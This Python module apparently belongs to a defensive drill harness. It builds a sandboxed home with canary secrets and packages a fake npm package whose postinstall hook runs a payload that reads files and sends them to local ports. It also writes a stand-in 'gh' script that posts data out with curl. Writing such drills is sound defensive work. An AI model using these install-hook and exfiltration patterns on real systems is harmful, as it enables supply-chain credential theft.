"""Where a drill takes place: a temporary home with canaries, a project, and the package that does the steps.

Not in a temporary directory: policies let those be written, and a home is none.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import sys
import tarfile
import tempfile
from pathlib import Path
from typing import Any

from agentgate import xdg
from agentgate.drill import payload
from agentgate.drill.campaigns import Campaign, Step

__all__ = ["World"]

_CLAUDE = '#!/bin/sh\n# A stand-in for a coding agent: does what it is told.\nexec cat "${3#print }"\n'
_GH = '#!/bin/sh\n# A stand-in for gh: sends something to the forge.\nexec curl -sS -d s1ngularity "http://$4/user/repos"\n'
_INDEX = (
    "const [python, ...rest] = %s;\nrequire('child_process').spawnSync(python, rest, {stdio: 'inherit'});\n"
)
_PACKAGE = "left-padder"


def _place() -> Path:
    """A directory of this user's for such worlds. Raises OSError."""
    folder = xdg.directory(os.environ, "XDG_CACHE_HOME", ".cache")
    folder.mkdir(parents=True, exist_ok=True)
    return folder


class World:
    """``root`` holds everything and is removed by ``remove``. ``canary`` stands in what is worth stealing."""

    def __init__(self, campaign: Campaign) -> None:
        """Make it. Raises OSError."""
        self.root = Path(tempfile.mkdtemp(prefix="drill-", dir=_place())).resolve()
        self.home, self.project, self.bin = (self.root / name for name in ("home", "home/project", "bin"))
        self.canary = f"canary-{os.urandom(6).hex()}"
        self.npm = shutil.which("npm", path=self._path()) or ""
        try:
            self._fill(campaign)
        except BaseException:
            self.remove()
            raise

    def _fill(self, campaign: Campaign) -> None:
        for folder in (self.project, self.bin, self.home / "Documents"):
            folder.mkdir(parents=True)
        (self.home / "Documents" / "thesis.txt").write_text("Five years of work.\n")
        (self.home / ".bashrc").write_text("# nothing in here\n")
        (self.home / ".npmrc").write_text("fund=false\naudit=false\nupdate-notifier=false\n")
        (self.project / "package.json").write_text('{"name": "work", "version": "1.0.0"}\n')
        for step in campaign.steps:
            if step.verb in ("read", "agent"):
                path = self.place(step)
                path.parent.mkdir(parents=True, exist_ok=True)
                with path.open("a") as file:
                    file.write(f"; {self.canary}\n" if path.name == ".npmrc" else f"{self.canary}\n")
        for name, text in (("claude", _CLAUDE), ("gh", _GH)):
            (self.bin / name).write_text(text)
            (self.bin / name).chmod(0o755)

    def place(self, step: Step) -> Path:
        """The file or directory that a step is about."""
        if step.path.startswith("~/"):
            return self.home / step.path[2:]
        return self.project / step.path if step.path else self.home

    def _path(self) -> str:
        return os.pathsep.join((str(self.bin), "/usr/local/bin", "/usr/bin", "/bin"))

    @property
    def env(self) -> dict[str, str]:
        """Nothing of the operator's own but where programs are found."""
        return {
            "PATH": self._path(), "HOME": str(self.home), "LANG": "C.UTF-8", "TMPDIR": tempfile.gettempdir(),
            "PYTHONDONTWRITEBYTECODE": "1",
        }  # fmt: skip

    def command(self, campaign: Campaign, ports: dict[int, int]) -> tuple[str, ...]:
        """A shell, as an agent has one, that installs the package: with npm, or where that is not to be had
        by doing what npm would do."""
        name = "gyp_main.py" if campaign.gyp else "payload.py"
        # the system's own, where there is one: that of a virtual environment may lie where nothing should run
        python = shutil.which("python3", path=self._path()) or sys.executable
        script = f"{python} -I {name} plan.json"
        node = shutil.which("node", path=self._path())
        plan: dict[str, Any] = {
            "shell": "" if not campaign.gyp else "node index.js && echo stub.c" if node else script,
            "steps": [
                {
                    "verb": step.verb,
                    "path": str(self.place(step)),
                    "text": self._text(step),
                    "port": ports.get(number, 0),
                }
                for number, step in enumerate(campaign.steps)
            ],
        }
        files = {
            "package.json": json.dumps(
                {"name": _PACKAGE, "version": "1.0.0", "scripts": {"postinstall": script}}
            ),
            "index.js": _INDEX % json.dumps([python, "-I", name, "plan.json"]),
            name: Path(payload.__file__).read_text(encoding="utf-8"),
            "plan.json": json.dumps(plan),
        }
        if self.npm:
            tarball = self.project / f"{_PACKAGE}-1.0.0.tgz"
            with tarfile.open(tarball, "w:gz") as archive:
                for name, text in files.items():
                    entry = tarfile.TarInfo(f"package/{name}")
                    entry.size, entry.mode = len(text.encode()), 0o644
                    archive.addfile(entry, io.BytesIO(text.encode()))
            return ("/bin/sh", "-c", f"npm install --foreground-scripts --offline ./{tarball.name}; exit $?")
        folder = self.project / "node_modules" / _PACKAGE
        folder.mkdir(parents=True)
        for name, text in files.items():
            (folder / name).write_text(text)
        return ("/bin/sh", "-c", f"cd {folder} && /bin/sh -c '{script}'; exit $?")

    def _text(self, step: Step) -> str:
        return (
            f"# {self.canary}\n" if step.verb in ("write", "append") else f"what was found: {self.canary}\n"
        )

    def remove(self) -> None:
        shutil.rmtree(self.root, ignore_errors=True)
